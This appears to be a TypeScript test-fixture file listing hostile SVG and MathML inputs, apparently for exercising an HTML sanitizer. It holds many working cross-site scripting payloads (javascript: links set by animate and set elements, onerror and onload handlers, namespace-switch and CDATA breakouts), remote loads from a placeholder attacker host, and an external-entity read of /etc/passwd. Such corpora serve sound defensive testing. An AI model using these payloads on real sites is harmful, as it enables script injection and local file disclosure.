// SVG and MathML, whose rules differ from those of HTML.
import { EVIL, family, together } from "./input";

export const foreign = family("foreign", "a dialog, a foreign request, or SVG that changes links", {
  animate: together(
    '<svg><a><animate attributeName="href" values="javascript:alert(1)" fill="freeze"/><text y="20">link</text></a></svg>',
    '<svg><a id="a1"><text y="20">link</text></a><animate xlink:href="#a1" attributeName="xlink:href" from="javascript:alert(1)" to="&" begin="0"/></svg>',
    '<svg><animate href="#site:main" attributeName="class" to="gone"/><set href="#___gatsby" attributeName="hidden" to=""/></svg>',
    '<svg><animatemotion href="#x" onbegin="alert(1)"/><animatetransform onbegin=alert(1) attributename=transform></svg>',
    '<svg><discard href="#___gatsby" begin="0s" onbegin="alert(1)"/></svg>',
  ),
  set: together(
    '<svg><set attributeName="onmouseover" to="alert(1)"/><rect width="100" height="100"/></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">link</text></a></svg>',
  ),
  "foreign-object":
    '<svg><foreignObject width="100" height="100"><img src="x" onerror="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  "foreign-object-body":
    '<svg><foreignobject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"></body></foreignobject></svg>',
  remote: together(
    `<svg><use href="https://${EVIL}/sprite.svg#x"/><use xlink:href="//${EVIL}/y.svg#y"/></svg>`,
    `<svg><image href="https://${EVIL}/i.png"/><image xlink:href="https://${EVIL}/j.png"/><filter id="f"><feImage href="https://${EVIL}/k.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    `<svg><rect width="10" height="10" fill="url(https://${EVIL}/paint.svg#p)" mask="url(https://${EVIL}/m.svg#m)" cursor="url(https://${EVIL}/c.cur)"/></svg>`,
  ),
  "style-inside": `<svg><style>@import "https://${EVIL}/svg.css"; * { background: url(https://${EVIL}/b.png) }</style></svg>`,
  "style-with-markup": "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
  "title-inside":
    "<svg><title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc></svg>",
  "title-hijack": "<svg><title>Another title</title></svg><title>Another title</title>",
  handler:
    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(1)</handler><g ev:event="click"/></svg>',
  "cdata-break": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
  "comment-break": "<svg><!-- --!><img src=x onerror=alert(1)> --></svg>",
  "entity-document":
    '<!DOCTYPE svg [<!ENTITY e "<script>alert(1)</script>"><!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&e;&f;</svg>',
  "processing-instruction": '<?xml-stylesheet href="javascript:alert(1)" type="text/xsl"?><svg/>',
  math: together(
    '<math><maction actiontype="statusline#https://example.com/" xlink:href="javascript:alert(1)">click<mtext>x</mtext></maction></math>',
    '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)><script>alert(1)</script></annotation-xml></semantics></math>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<math><mtext><img src=x onerror=alert(1)></mtext><ms><script>alert(1)</script></ms></math>",
    '<math><mstyle mathsize="99999%" style="position:fixed;inset:0"><mi href="javascript:alert(1)">huge</mi></mstyle></math>',
  ),
  "huge-canvas":
    '<svg width="9999999" height="9999999" style="position:absolute;top:-100px" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>',
  "overflow-visible":
    '<svg overflow="visible" width="10" height="10"><rect x="-5000" y="-5000" width="10000" height="10000"/><text x="-500" y="-300" font-size="400">OVER</text></svg>',
  "name-space-switch":
    "<svg><desc><math><mtext><svg><script>alert(1)</script></svg></mtext></math></desc></svg>",
  "case-adjusted":
    "<svg><FOREIGNOBJECT><ANIMATE ATTRIBUTENAME=href VALUES=javascript:alert(1)></FOREIGNOBJECT></svg>",
});
